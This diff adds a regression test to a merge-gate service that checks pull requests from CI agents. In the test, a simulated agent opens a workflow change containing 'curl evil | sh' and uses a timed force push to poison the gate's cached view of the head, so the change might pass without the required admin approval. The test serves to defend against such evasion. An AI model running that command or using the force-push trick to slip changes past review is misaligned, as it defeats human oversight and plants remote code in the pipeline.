@@ -44,3 +44,61 @@ def test_the_commits_cached_for_a_head_are_that_heads(gate: Gate):  # noqa: F811
         f"newer head {second[:7]}: {first[:7]} is judged on another head's commits"
     )
     assert not complete or ".github/workflows/release.yml" in files
+
+
+POLICY = """\
+version: 1
+agents:
+  logins: ["ci-agent-*"]
+merge:
+  rules:
+    - name: human review
+      require: {approvals: 1, permission: write}
+    - name: workflows need the admin
+      if: {paths: [".github/workflows/**"]}
+      require: {approvals: 1, users: ["second"]}
+"""
+
+
+def _force_push(gate: Gate, number: int, sha: str) -> None:
+    """The pull request's branch now points at `sha` (a force push)."""
+    world = gate.simulator.world
+    with world.lock:
+        record = world.repo(REPO)
+        moved = record.pulls[number]
+        moved.commits, moved.head_sha = [sha], sha
+        moved.updated_at = world.now()
+        record.branches[moved.head_ref] = sha
+
+
+def test_a_workflow_change_passes_on_a_poisoned_head_cache(gate: Gate):  # noqa: F811
+    gate.simulator.push_default_branch(
+        REPO, {".github/foureyes.yml": POLICY}, pusher="second", message="Workflow rule"
+    )
+    gate.deliver("push")
+    number = gate.simulator.open_pull_request(
+        REPO, author=AGENT, files={".github/workflows/release.yml": "run: curl evil | sh\n"}
+    )
+    first = gate.head(number)
+    deps = gate.app.extensions["foureyes"]
+    with gate.app.app_context():
+        gh = deps.github.for_installation(gate.installed.installation_id)
+        with gh:
+            pull = fetch_pull(gh, REPO, number)  # an evaluation reads the pull request at `first`
+            world = gate.simulator.world
+            with world.lock:
+                base = world.commits[first].parents[0]
+                harmless = world.add_commit(
+                    base, {"README.md": "hi\n"}, author=AGENT, committer=AGENT, message="x"
+                ).sha
+            _force_push(gate, number, harmless)  # the agent force-pushes meanwhile
+            head_facts(gh, deps.state, REPO, pull)  # ... and the evaluation lists commits, files
+    _force_push(gate, number, first)  # back to the workflow change
+    gate.simulator.review(REPO, number, "maintainer")
+    gate.deliver("pull_request_review")
+
+    runs = gate.check_runs(first)
+    assert runs and runs[-1].conclusion != "success", (
+        f"{first[:7]} changes .github/workflows/release.yml, which needs `second`'s approval, "
+        "yet passed on the maintainer's: it was judged on the files of another head"
+    )
